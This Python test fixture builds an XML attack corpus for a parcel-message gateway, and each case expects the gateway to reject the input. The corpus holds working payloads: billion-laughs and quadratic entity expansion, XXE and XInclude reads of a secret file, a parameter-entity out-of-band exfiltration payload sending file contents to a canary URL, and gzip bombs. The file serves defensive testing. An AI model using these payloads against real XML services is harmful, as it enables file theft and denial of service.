"""The XML attack corpus: one small generator per case, no data files.

Every case starts from a valid ITMATT message of the attacking partner (so an attack that slipped
through would be stored and answered 202) and turns it into the attack. `CASES` is what the test
parametrises over; `tests/attacks/README.md` tabulates it.
"""

from __future__ import annotations

import gzip
import random
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from gateway.formats.itmatt.samples import build_itmatt, generate_items

ATTACKER = "gb-royal-mail"
ATTACK_MESSAGE_ID = "GBA-ATTACK-1"
MAX_BODY_BYTES = 16 * 1024 * 1024  # the attacking partner's limit (partner.toml max_body_bytes)
MIB = 1024 * 1024
TOO_LARGE = "payload-too-large"  # the problem type slug of a 413


@dataclass(frozen=True, slots=True)
class Env:
    """What a case may point at: a loopback listener that records connections, a secret file."""

    canary_url: str  # http://127.0.0.1:PORT
    secret: Path  # holds SECRET; must never appear in an answer


SECRET = "TOP-SECRET-7f3a"


@dataclass(frozen=True, slots=True)
class Attack:
    body: bytes
    status: int  # 400 or 413
    code: str  # the errors[].code expected (400), or TOO_LARGE (413)
    gzip: bool = False  # sent with Content-Encoding: gzip


@dataclass(frozen=True, slots=True)
class Case:
    id: str
    threat: str  # one line for the README table
    build: Callable[[Env], Attack]


@cache
def valid() -> bytes:
    """A valid two-item message from the attacker (would be 202 as it is)."""
    specs = generate_items(random.Random(11), 2, sender_country="GB")
    return build_itmatt(ATTACK_MESSAGE_ID, "GBA", specs)


def _split() -> tuple[bytes, bytes]:
    """(the XML declaration, the rest of the valid message)."""
    declaration, rest = valid().split(b"?>", 1)
    return declaration + b"?>", rest


def with_doctype(doctype: str, *, body_text: bytes = b"") -> bytes:
    """The valid message with a DOCTYPE after its declaration, `body_text` put in a text node."""
    declaration, rest = _split()
    return declaration + b"\n" + doctype.encode() + in_text(rest, body_text)


def in_text(doc: bytes, text: bytes) -> bytes:
    """`text` put at the start of the first address line (inside an item)."""
    return doc.replace(b"<line>", b"<line>" + text, 1)


def before_first_line(markup: bytes) -> bytes:
    """`markup` put as an element just before the first address line."""
    return valid().replace(b"<line>", markup + b"<line>", 1)


def on_root(attributes: bytes) -> bytes:
    """`attributes` added to the root start tag."""
    doc = valid()
    end = doc.index(b">", doc.index(b"<message"))
    return doc[:end] + b" " + attributes + doc[end:]


def refused(code: str) -> Callable[[bytes], Attack]:
    return lambda body: Attack(body, 400, code)


# -- entities and DTDs ----------------------------------------------------------------------------


def billion_laughs(_env: Env) -> Attack:
    lines = ['<!ENTITY lol0 "lol">']
    lines += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    doctype = "<!DOCTYPE message [\n" + "\n".join(lines) + "\n]>"
    return Attack(with_doctype(doctype, body_text=b"&lol9;"), 400, "XML_DOCTYPE_FORBIDDEN")


def quadratic_blowup(_env: Env) -> Attack:
    doctype = f'<!DOCTYPE message [<!ENTITY a "{"x" * 64 * 1024}">]>'
    return Attack(with_doctype(doctype, body_text=b"&a;" * 16384), 400, "XML_DOCTYPE_FORBIDDEN")


def undeclared_entities(_env: Env) -> Attack:
    return Attack(in_text(valid(), b"&a;" * 16384), 400, "XML_ENTITY_FORBIDDEN")


def xxe_file(env: Env) -> Attack:
    doctype = f'<!DOCTYPE message [<!ENTITY x SYSTEM "file://{env.secret}">]>'
    return Attack(with_doctype(doctype, body_text=b"&x;"), 400, "XML_DOCTYPE_FORBIDDEN")


def xxe_network(env: Env) -> Attack:
    doctype = f'<!DOCTYPE message [<!ENTITY x SYSTEM "{env.canary_url}/x.txt">]>'
    return Attack(with_doctype(doctype, body_text=b"&x;"), 400, "XML_DOCTYPE_FORBIDDEN")


def external_dtd(env: Env) -> Attack:
    doctype = f'<!DOCTYPE message SYSTEM "{env.canary_url}/evil.dtd">'
    return Attack(with_doctype(doctype), 400, "XML_DOCTYPE_FORBIDDEN")


def external_dtd_public(env: Env) -> Attack:
    doctype = f'<!DOCTYPE message PUBLIC "-//EVIL//DTD X//EN" "file://{env.secret}">'
    return Attack(with_doctype(doctype), 400, "XML_DOCTYPE_FORBIDDEN")


def parameter_entity(env: Env) -> Attack:
    doctype = f'<!DOCTYPE message [<!ENTITY % p SYSTEM "{env.canary_url}/p.dtd"> %p;]>'
    return Attack(with_doctype(doctype), 400, "XML_DOCTYPE_FORBIDDEN")


def parameter_entity_exfiltration(env: Env) -> Attack:
    """The out-of-band pattern: read a file, send it to the attacker in a URL."""
    doctype = (
        "<!DOCTYPE message [\n"
        f'<!ENTITY % file SYSTEM "file://{env.secret}">\n'
        f"<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '{env.canary_url}/?d=%file;'>\">\n"
        "%wrap; %send;\n]>"
    )
    return Attack(with_doctype(doctype), 400, "XML_DOCTYPE_FORBIDDEN")


def doctype_after_comment_and_pi(env: Env) -> Attack:
    declaration, rest = _split()
    doctype = f'<!DOCTYPE message SYSTEM "{env.canary_url}/hidden.dtd">'
    prolog = b"\n<!-- <!DOCTYPE --> <?pi ?> \n" + doctype.encode()
    return Attack(declaration + prolog + rest, 400, "XML_DOCTYPE_FORBIDDEN")


def xinclude_file(env: Env) -> Attack:
    markup = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{env.secret}" '
        'parse="text"/>'
    )
    return Attack(before_first_line(markup.encode()), 400, "XML_XINCLUDE_FORBIDDEN")


def xinclude_network(env: Env) -> Attack:
    markup = (
        f'<xi:include xmlns:xi="http://www.w3.org/2003/XInclude" href="{env.canary_url}/i.xml"/>'
    )
    return Attack(before_first_line(markup.encode()), 400, "XML_XINCLUDE_FORBIDDEN")


# -- sizes and shapes -----------------------------------------------------------------------------


def deep_nesting(levels: int) -> Callable[[Env], Attack]:
    return lambda _env: Attack(
        before_first_line(b"<a>" * levels + b"</a>" * levels), 400, "XML_TOO_DEEP"
    )


def huge_attribute(_env: Env) -> Attack:
    """Past libxml2's 10 MB attribute limit (XML_PARSE_HUGE is never set)."""
    return Attack(on_root(b'a="' + b"x" * (11 * MIB) + b'"'), 400, "XML_TOO_LARGE")


def big_unknown_attribute(_env: Env) -> Attack:
    """Below the parser's limit: the schema refuses it on the envelope."""
    return Attack(on_root(b'a="' + b"x" * (2 * MIB) + b'"'), 400, "XSD_ENVELOPE")


def huge_text(_env: Env) -> Attack:
    return Attack(in_text(valid(), b"x" * (11 * MIB)), 400, "XML_TOO_LARGE")


def many_namespaces(_env: Env) -> Attack:
    declarations = b" ".join(b'xmlns:p%d="urn:x:%d"' % (i, i) for i in range(50_000))
    return Attack(on_root(declarations), 400, "XML_TOO_MANY_NAMESPACES")


def namespaces_on_every_element(_env: Env) -> Attack:
    """Few per element, many in all: 2,000 elements each declaring 32 namespaces."""
    declarations = b" ".join(b'xmlns:q%d="urn:q:%d"' % (i, i) for i in range(32))
    markup = (b"<b " + declarations + b"/>") * 2000
    return Attack(before_first_line(markup), 400, "XML_TOO_MANY_NAMESPACES")


def many_attributes(_env: Env) -> Attack:
    return Attack(on_root(b" ".join(b'p%d="x"' % i for i in range(10_000))), 400, "XSD_ENVELOPE")


# -- encodings ------------------------------------------------------------------------------------


def raw_bytes(data: bytes, code: str) -> Callable[[Env], Attack]:
    return lambda _env: Attack(in_text(valid(), data), 400, code)


def declared(encoding: bytes, *, prefix: bytes = b"", code: str = "XML_ENCODING") -> Attack:
    doc = valid().replace(b'encoding="UTF-8"', b'encoding="' + encoding + b'"', 1)
    return Attack(prefix + doc, 400, code)


def utf16(*, bom: bool, declaration: str = "UTF-16") -> Callable[[Env], Attack]:
    def build(_env: Env) -> Attack:
        text = valid().decode().replace("UTF-8", declaration, 1)
        data = (("\ufeff" if bom else "") + text).encode("utf-16-le")
        return Attack(data, 400, "XML_ENCODING")

    return build


def utf32_bom(_env: Env) -> Attack:
    return Attack(
        valid().decode().replace("UTF-8", "UTF-32", 1).encode("utf-32"), 400, "XML_ENCODING"
    )


# -- gzip -----------------------------------------------------------------------------------------


def _deflate_zeros(size: int, level: int) -> bytes:
    packer = zlib.compressobj(level, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    block = bytes(MIB)
    return b"".join(packer.compress(block) for _ in range(size // MIB)) + packer.flush()


def gzip_bomb_one_member(_env: Env) -> Attack:
    """256 MiB of zeros in one gzip member (about 1.1 MB on the wire)."""
    return Attack(_deflate_zeros(256 * MIB, 1), 413, TOO_LARGE, gzip=True)


def gzip_bomb_many_members(_env: Env) -> Attack:
    """1 GiB in 64 concatenated members of 16 MiB each (about 1 MB on the wire)."""
    return Attack(_deflate_zeros(16 * MIB, 6) * 64, 413, TOO_LARGE, gzip=True)


def gzip_valid_then_bomb(_env: Env) -> Attack:
    """A valid message first, then a bomb member: the limit spans members."""
    return Attack(
        gzip.compress(valid(), mtime=0) + _deflate_zeros(64 * MIB, 1), 413, TOO_LARGE, gzip=True
    )


def gzip_member_flood(_env: Env) -> Attack:
    """800,000 empty gzip members (16 MB): each member's end used to copy the rest of the body."""
    return Attack(gzip.compress(b"", mtime=0) * 800_000, 400, "GZIP_INVALID", gzip=True)


def gzip_truncated(_env: Env) -> Attack:
    packed = gzip.compress(valid(), mtime=0)
    return Attack(packed[: len(packed) // 2], 400, "GZIP_INVALID", gzip=True)


def gzip_not_gzip(_env: Env) -> Attack:
    return Attack(valid(), 400, "GZIP_INVALID", gzip=True)


def gzip_of_gzip(_env: Env) -> Attack:
    packed = gzip.compress(gzip.compress(valid(), mtime=0), mtime=0)
    return Attack(packed, 400, "XML_NOT_WELL_FORMED", gzip=True)


def gzip_billion_laughs(env: Env) -> Attack:
    return Attack(
        gzip.compress(billion_laughs(env).body, mtime=0), 400, "XML_DOCTYPE_FORBIDDEN", gzip=True
    )


def body_over_limit(_env: Env) -> Attack:
    return Attack(in_text(valid(), b"x" * (MAX_BODY_BYTES + 1)), 413, TOO_LARGE)


# -- truncation -----------------------------------------------------------------------------------


def truncated_half(_env: Env) -> Attack:
    return Attack(valid()[: len(valid()) // 2], 400, "XML_NOT_WELL_FORMED")


def truncated_last_byte(_env: Env) -> Attack:
    return Attack(valid().rstrip()[:-1], 400, "XML_NOT_WELL_FORMED")


def truncated_in_declaration(_env: Env) -> Attack:
    return Attack(b'<?xml version="1.0" enc', 400, "XML_NOT_WELL_FORMED")


def empty_body(_env: Env) -> Attack:
    return Attack(b"", 400, "XML_NOT_WELL_FORMED")


CASES: tuple[Case, ...] = (
    Case("billion-laughs", "nested internal entities (10^9 expansion)", billion_laughs),
    Case("quadratic-blowup", "a 64 KiB entity referenced 16,384 times", quadratic_blowup),
    Case("undeclared-entities", "16,384 references, no DOCTYPE", undeclared_entities),
    Case("xxe-file", "external entity on a local secret file", xxe_file),
    Case("xxe-network", "external entity on an HTTP canary", xxe_network),
    Case("external-dtd", "DOCTYPE SYSTEM on an HTTP canary", external_dtd),
    Case("external-dtd-public", "DOCTYPE PUBLIC on a local file", external_dtd_public),
    Case("parameter-entity", "%p; loading a remote DTD", parameter_entity),
    Case("parameter-entity-oob", "out-of-band file exfiltration", parameter_entity_exfiltration),
    Case(
        "doctype-after-comment-pi",
        "DOCTYPE hidden after a comment and a PI",
        doctype_after_comment_and_pi,
    ),
    Case("xinclude-file", "XInclude 2001 of a local file as text", xinclude_file),
    Case("xinclude-network", "XInclude 2003 of an HTTP canary", xinclude_network),
    Case("deep-nesting-100", "100 levels (over the gateway's 64)", deep_nesting(100)),
    Case("deep-nesting-100k", "100,000 levels (over libxml2's 256)", deep_nesting(100_000)),
    Case("huge-attribute-11mib", "an 11 MiB attribute value", huge_attribute),
    Case("big-attribute-2mib", "a 2 MiB unknown attribute on the root", big_unknown_attribute),
    Case("huge-text-11mib", "an 11 MiB text node", huge_text),
    Case("many-namespaces-50k", "50,000 namespace declarations on the root", many_namespaces),
    Case(
        "namespaces-everywhere-64k", "2,000 elements x 32 declarations", namespaces_on_every_element
    ),
    Case("many-attributes-10k", "10,000 attributes on the root", many_attributes),
    Case("invalid-utf8", "bytes FF FE inside a text node", raw_bytes(b"\xff\xfe", "XML_ENCODING")),
    Case("overlong-utf8", "overlong C0 BC for '<'", raw_bytes(b"\xc0\xbc", "XML_ENCODING")),
    Case(
        "utf8-surrogate",
        "an encoded UTF-16 surrogate (ED A0 80)",
        raw_bytes(b"\xed\xa0\x80", "XML_ENCODING"),
    ),
    Case("nul-byte", "a NUL character in a text node", raw_bytes(b"\x00", "XML_NOT_WELL_FORMED")),
    Case(
        "utf8-bom+utf16-decl",
        "UTF-8 BOM, declaration says UTF-16",
        lambda _e: declared(b"UTF-16", prefix=b"\xef\xbb\xbf"),
    ),
    Case(
        "utf16-bom+utf8-decl",
        "UTF-16 LE BOM before UTF-8 bytes",
        lambda _e: Attack(b"\xff\xfe" + valid(), 400, "XML_ENCODING"),
    ),
    Case("utf16-bom", "a genuine UTF-16 document", utf16(bom=True)),
    Case(
        "utf16-no-bom",
        "UTF-16 LE without BOM, declaration says UTF-8",
        utf16(bom=False, declaration="UTF-8"),
    ),
    Case("utf32-bom", "a UTF-32 document with its BOM", utf32_bom),
    Case("latin1-decl", "declared ISO-8859-1", lambda _e: declared(b"ISO-8859-1")),
    Case(
        "double-utf8-bom",
        "two UTF-8 BOMs",
        lambda _e: Attack(b"\xef\xbb\xbf" * 2 + valid(), 400, "XML_NOT_WELL_FORMED"),
    ),
    Case("gzip-bomb-256mib", "gzip, one member: 256 MiB of zeros", gzip_bomb_one_member),
    Case("gzip-bomb-1gib-members", "gzip, 64 members: 1 GiB", gzip_bomb_many_members),
    Case("gzip-valid-then-bomb", "gzip, a valid member then 64 MiB", gzip_valid_then_bomb),
    Case("gzip-member-flood", "gzip, 800,000 empty members", gzip_member_flood),
    Case("gzip-truncated", "gzip cut in the middle", gzip_truncated),
    Case("gzip-not-gzip", "Content-Encoding: gzip on plain XML", gzip_not_gzip),
    Case("gzip-of-gzip", "gzip twice (only one layer is undone)", gzip_of_gzip),
    Case("gzip-billion-laughs", "billion laughs inside gzip", gzip_billion_laughs),
    Case("body-over-limit", "plain body one byte over 16 MiB + the message", body_over_limit),
    Case("truncated-half", "the message cut in half", truncated_half),
    Case("truncated-last-byte", "the message without its last '>'", truncated_last_byte),
    Case("truncated-declaration", "cut inside the XML declaration", truncated_in_declaration),
    Case("empty-body", "an empty body", empty_body),
)
